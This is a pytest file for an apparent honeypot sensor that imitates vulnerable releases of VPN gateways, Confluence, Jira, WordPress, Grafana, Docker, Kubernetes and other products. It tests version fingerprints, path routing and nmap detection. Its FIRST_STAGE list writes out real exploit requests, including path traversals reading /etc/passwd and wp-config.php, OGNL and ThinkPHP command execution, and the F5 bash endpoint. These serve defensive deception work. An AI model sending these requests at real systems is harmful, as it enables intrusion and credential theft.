"""The vulnerable-product personas: every file loads, each answers its fingerprint as its release,
the composite persona hands paths to the right product, and nmap names the ones its probes know."""

from __future__ import annotations

import re
import subprocess
from concurrent.futures import ThreadPoolExecutor

import pytest

from honeyguard.sensor.http.persona import HttpPersona
from honeyguard.sensor.http.preview import Preview
from honeyguard.sensor.http.responder import Router
from honeyguard.sensor.personas import BUILTIN_DIR, load_personas
from honeyguard.sensor.services.http import build_routers
from tests.conftest import tool
from tests.sensor.http_helpers import exchange

# (persona, request, a substring of the answer that names the product or its vulnerable release)
FINGERPRINTS: list[tuple[str, str, str]] = [
    ("fortigate-sslvpn", "GET /remote/login?lang=en", "Server: xxxxxxxx-xxxxx"),
    ("fortigate-sslvpn", "GET /remote/login?lang=en", "/remote/fgt_lang?lang=en"),
    ("paloalto-globalprotect", "GET /global-protect/login.esp", "login.css?v=10.2.9"),
    ("paloalto-globalprotect", "POST /global-protect/prelogin.esp?tmp=tmp&clientVer=4100",
     "<sw-version>10.2.9</sw-version>"),
    ("citrix-adc", "GET /vpn/index.html", "<title>Citrix Gateway</title>"),
    ("citrix-adc", "GET /vpn/js/gateway_login_view.js", "13.0-47.24"),
    ("pulse-secure", "GET /dana-na/nc/nc_gina_ver.txt", 'VALUE="9.0.3.64015"'),
    ("pulse-secure", "GET /dana-na/auth/url_default/welcome.cgi", "Pulse Connect Secure"),
    ("f5-bigip", "GET /tmui/login.jsp", "login.css?ver=15.1.0"),
    ("f5-bigip", "GET /mgmt/tm/sys/version", '"Version": {"description": "15.1.0"}'),
    ("cisco-asa", "GET /+CSCOE+/logon.html", "X-Transcend-Version: 1"),
    ("cisco-asa", "POST /CSCOSSLC/config-auth", '<version who="sg">9.12(2)</version>'),
    ("sonicwall-sma", "GET /cgi-bin/welcome", "Server: SonicWALL SSL-VPN Web Server"),
    ("sonicwall-sma", "GET /cgi-bin/welcome", "v=8.0.0.1-16sv"),
    ("confluence", "GET /login.action", '<meta name="ajs-version-number" content="7.4.11">'),
    ("confluence", "GET /rest/applinks/1.0/manifest", "<version>7.4.11</version>"),
    ("jira", "GET /rest/api/2/serverInfo", '"version":"8.2.2"'),
    ("jira", "GET /login.jsp", "v8.2.2#802002"),
    ("struts-showcase", "GET /struts2-showcase/showcase.action", "Struts 2.3.31"),
    ("tomcat", "GET /", "<title>Apache Tomcat/9.0.30</title>"),
    ("tomcat", "GET /manager/html", 'WWW-Authenticate: Basic realm="Tomcat Manager Application"'),
    ("activemq", "GET /", "Server: Jetty(8.1.16.v20140903)"),
    ("activemq", "GET /admin/", 'realm="ActiveMQRealm"'),
    ("ofbiz", "GET /webtools/control/main", "release-18.12.09"),
    ("solr", "GET /solr/admin/info/system?wt=json", '"solr-spec-version":"8.11.0"'),
    ("spring-boot", "GET /actuator/health", '{"status":"UP"}'),
    ("spring-boot", "GET /actuator/info", '"spring-boot":"2.5.6"'),
    ("weblogic", "GET /console/login/LoginForm.jsp", "WebLogic Server Version: 12.2.1.3.0"),
    ("vcenter", "GET /sdk/vimServiceVersions.xml", "<version>7.0.1.0</version>"),
    ("vcenter", "POST /sdk", "VMware vCenter Server 7.0.1 build-17005016"),
    ("exchange-owa", "GET /owa/auth/logon.aspx", "/owa/auth/15.1.2176/"),
    ("exchange-owa", "GET /owa/auth/logon.aspx", "X-OWA-Version: 15.1.2176.2"),
    ("jenkins", "GET /login", "X-Jenkins: 2.441"),
    ("jenkins", "GET /", "X-Jenkins: 2.441"),
    ("gitlab", "GET /help", "GitLab Community Edition <span>13.10.2</span>"),
    ("gitlab", "GET /users/sign_in", "runtime.13.10.2.bundle.js"),
    ("teamcity", "GET /login.html", "Version 2023.05.3 (build 129390)"),
    ("teamcity", "GET /app/rest/server", 'version="2023.05.3 (build 129390)"'),
    ("wordpress", "GET /", '<meta name="generator" content="WordPress 5.4.2" />'),
    ("wordpress", "GET /wp-content/plugins/wp-file-manager/readme.txt", "Stable tag: 6.0"),
    ("wordpress", "GET /wp-content/plugins/duplicator/readme.txt", "Stable tag: 1.3.24"),
    ("drupal", "GET /CHANGELOG.txt", "Drupal 7.57, 2018-02-21"),
    ("drupal", "GET /", "X-Generator: Drupal 7 (http://drupal.org)"),
    ("laravel", "GET /_ignition/health-check", '{"can_execute_commands":true}'),
    ("laravel", "GET /", "Laravel v8.4.1 (PHP v7.4.3)"),
    ("phpunit", "GET /vendor/phpunit/phpunit/composer.json", '"version": "5.6.2"'),
    ("thinkphp", "GET /", "ThinkPHP V5.0.22"),
    ("phpmyadmin", "GET /phpmyadmin/", "nocache=4.8.1"),
    ("docker-api", "GET /version", '"ApiVersion":"1.41"'),
    ("docker-api", "GET /v1.41/info", '"ServerVersion":"20.10.7"'),
    ("elasticsearch", "GET /", '"number" : "1.4.2"'),
    ("grafana", "GET /api/health", '"version": "8.3.0"'),
    ("grafana", "GET /login", '"version":"8.3.0"'),
    ("hikvision", "GET /doc/page/login.asp", "version=V5.5.0build170725"),
    ("hikvision", "GET /System/deviceInfo", "<model>DS-2CD2142FWD-I</model>"),
    ("gpon-router", "GET /login.html", "GPON Home Gateway"),
    ("huawei-hg532", "POST /ctrlt/DeviceUpgrade_1", "UPnP/1.0, Portable SDK for UPnP devices/1.6.8"),
    ("dlink-router", "POST /HNAP1/", "<FirmwareVersion>1.03, 2012/11/29</FirmwareVersion>"),
    ("dlink-router", "GET /", "Server: Linux, HTTP/1.1, DIR-645 Ver 1.03"),
    ("realtek-boa", "GET /", "Server: Boa/0.94.14rc21"),
    ("realtek-miniigd", "GET /picsdesc.xml", "UPnP/1.0, miniigd/1.0"),
    ("kubernetes-api", "GET /version", '"gitVersion": "v1.18.2"'),
    ("workspace-one", "GET /SAAS/auth/login", "Workspace ONE Access 21.08.0.1"),
    ("workspace-one", "GET /SAAS/API/1.0/REST/system/health", '"BuildVersion":"21.08.0.1 Build 18750396"'),
]

# First-stage exploit requests answered as the vulnerable release would (persona, request, answer).
FIRST_STAGE: list[tuple[str, str, str]] = [
    ("fortigate-sslvpn", "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "svc_backup"),
    ("citrix-adc", "GET /vpn/../vpns/cfg/smb.conf", "[global]"),
    ("pulse-secure", "GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
     "nfast:x:0:0:nfast:/:/bin/bash"),
    ("f5-bigip", "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
     "f5_remoteuser"),
    ("f5-bigip", "POST /mgmt/tm/util/bash", '"commandResult": "uid=0(root)'),
    ("cisco-asa", "GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"
     "&default-language&lang=../", "PORTAL_VERSION"),
    ("confluence", "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
     "X-Cmd-Response: uid=2002(confluence)"),
    ("jira", "GET /s/x/_/;/WEB-INF/web.xml", "<display-name>JIRA</display-name>"),
    ("grafana", "GET /public/plugins/alertlist/../../../../../../../../etc/passwd", "root:x:0:0:root:/root:/bin/bash"),
    ("phpmyadmin", "GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../etc/passwd", "www-data:x:33"),
    ("wordpress", "GET /wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php", "DB_PASSWORD"),
    ("thinkphp", "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
     "&vars[0]=system&vars[1][]=id", "uid=33(www-data)"),
    ("phpunit", "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "uid=33(www-data)"),
    ("docker-api", "POST /v1.41/containers/create", "HTTP/1.1 201 Created"),
    ("teamcity", "POST /app/rest/users/id:1/tokens/RPC2", '<token name="RPC2"'),
    ("ofbiz", "POST /webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y", "uid=1000(ofbiz)"),
    ("weblogic", "GET /console/css/%252e%252e%252fconsole.portal", "Welcome, weblogic"),
    ("hikvision", "GET /Security/users?auth=YWRtaW46MTEK", "<userName>admin</userName>"),
    ("gpon-router", "GET /diag.html?images/", "uid=0(root)"),
    ("elasticsearch", "POST /_search?pretty", "uid=106(elasticsearch)"),
    ("realtek-boa", "GET /syscmd.htm", "uid=0(root)"),
    ("realtek-miniigd", "POST /picsdesc.xml", "AddPortMappingResponse"),
    ("kubernetes-api", "POST /api/v1/namespaces/default/pods", "HTTP/1.1 201 Created"),
    ("kubernetes-api", "GET /api/v1/namespaces/kube-system/secrets", "service-account-token"),
    ("workspace-one", "GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker%22%7d",
     "uid=1001(horizon)"),
]

PRODUCTS = {p for p, _, _ in FINGERPRINTS}


@pytest.fixture(scope="module")
def routers() -> dict[str, Router]:
    return build_routers(load_personas([BUILTIN_DIR], service="http"))


def answer(router: Router, request: str) -> str:
    """The response head and body a persona gives, with the per-request slots left out."""
    method, target = request.split(" ", 1)
    return Preview().answer(router, method, target)


def test_every_persona_file_loads_and_links(routers: dict[str, Router]) -> None:
    personas = load_personas([BUILTIN_DIR], service="http")
    assert len(PRODUCTS) >= 25 and set(personas) >= PRODUCTS
    for pid in PRODUCTS | {"vulnerable-mix"}:
        persona = personas[pid]
        assert isinstance(persona, HttpPersona) and persona.id == pid and persona.description
        assert persona.source.endswith(f"{pid}.yaml")
    assert set(routers) == set(personas)
    handed = {route.persona for route in personas["vulnerable-mix"].routes}
    assert handed >= PRODUCTS | {"apache-ubuntu"}, PRODUCTS - handed  # every product is reachable by path


@pytest.mark.parametrize(("persona", "request_line", "expected"), FINGERPRINTS,
                         ids=[f"{p}:{r}" for p, r, _ in FINGERPRINTS])
def test_fingerprint_names_the_vulnerable_release(routers: dict[str, Router], persona: str, request_line: str,
                                                  expected: str) -> None:
    got = answer(routers[persona], request_line)
    assert expected in got, got[:600]
    assert not got.startswith(("HTTP/1.1 404", "HTTP/1.1 405"))


@pytest.mark.parametrize(("persona", "request_line", "expected"), FIRST_STAGE,
                         ids=[f"{p}:{r[:60]}" for p, r, _ in FIRST_STAGE])
def test_first_stage_of_the_exploit_is_answered(routers: dict[str, Router], persona: str, request_line: str,
                                                expected: str) -> None:
    assert expected in answer(routers[persona], request_line)


def test_each_persona_keeps_to_one_release(routers: dict[str, Router]) -> None:
    """A page of a product never names another release of the same product."""
    releases = {"jenkins": ("2.441", r"X-Jenkins: (\S+)"),
                "confluence": ("7.4.11", r'ajs-version-number" content="([^"]+)'),
                "wordpress": ("5.4.2", r"WordPress (\d+\.\d+\.\d+)"),
                "grafana": ("8.3.0", r'"version": ?"([^"]+)"')}
    for pid, (version, pattern) in releases.items():
        seen: set[str] = set()
        for persona, request_line, _ in FINGERPRINTS + FIRST_STAGE:
            if persona == pid:
                seen.update(re.findall(pattern, answer(routers[pid], request_line)))
        assert seen == {version}, (pid, seen)


def test_mix_hands_each_product_its_paths(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], personas={"http": "vulnerable-mix"})
    port = sensor.port("http")
    routed = [("fortigate-sslvpn", "/remote/login", "/remote/fgt_lang?lang=en"),
              ("wordpress", "/wp-login.php", "Log In &lsaquo; Example Blog"),
              ("jenkins", "/login", "X-Jenkins: 2.441"),
              ("docker-api", "/version", '"ApiVersion":"1.41"'),
              ("confluence", "/login.action", 'content="7.4.11"'),
              ("f5-bigip", "/tmui/login.jsp", "ver=15.1.0"),
              ("cisco-asa", "/+CSCOE+/logon.html", "X-Transcend-Version: 1"),
              ("grafana", "/api/health", '"version": "8.3.0"'),
              ("apache-ubuntu", "/", "Apache2 Ubuntu Default Page"),
              ("apache-ubuntu", "/no-such-page", "Apache/2.4.52 (Ubuntu) Server at 127.0.0.1 Port")]
    for persona, path, expected in routed:
        raw = exchange(port, f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        assert expected in raw.decode("latin-1"), (persona, path, raw[:400])


# The personas whose product nmap's own probes and match lines recognise (checked one by one; the
# others come out as a plain "http" or "unknown" because nmap's match lines for them want more than
# the answers the sensor gives). Docker and Elasticsearch are matched on HTTP/1.0 answers, which
# their personas give with ``status_line_version: request``.
NMAP_NAMES = {"tomcat": "Apache Tomcat 9.0.30", "jenkins": "Jetty 10.0.18", "exchange-owa": "Microsoft IIS httpd 10.0",
              "wordpress": "Apache httpd 2.4.41", "activemq": "Jetty 8.1.16", "dlink-router": "D-Link DIR-645",
              "sonicwall-sma": "SonicWALL SSL-VPN", "docker-api": "Docker 20.10.7 (API 1.41)",
              "elasticsearch": "Elasticsearch REST API 1.4.2"}


@pytest.mark.e2e
def test_nmap_names_the_products(make_sensor) -> None:  # type: ignore[no-untyped-def]
    nmap = tool("nmap")
    ports = {pid: make_sensor(["http"], personas={"http": pid}).port("http") for pid in NMAP_NAMES}

    def scan(port: int) -> str:
        result = subprocess.run([nmap, "-sT", "-Pn", "-sV", "-n", "-p", str(port), "127.0.0.1"],
                                capture_output=True, text=True, timeout=240)
        return next((line for line in result.stdout.splitlines() if line.startswith(f"{port}/tcp")), result.stdout)

    with ThreadPoolExecutor(4) as pool:
        lines = dict(zip(ports, pool.map(scan, ports.values()), strict=True))
    for pid, product in NMAP_NAMES.items():
        assert "open" in lines[pid] and product in lines[pid], (pid, lines[pid])
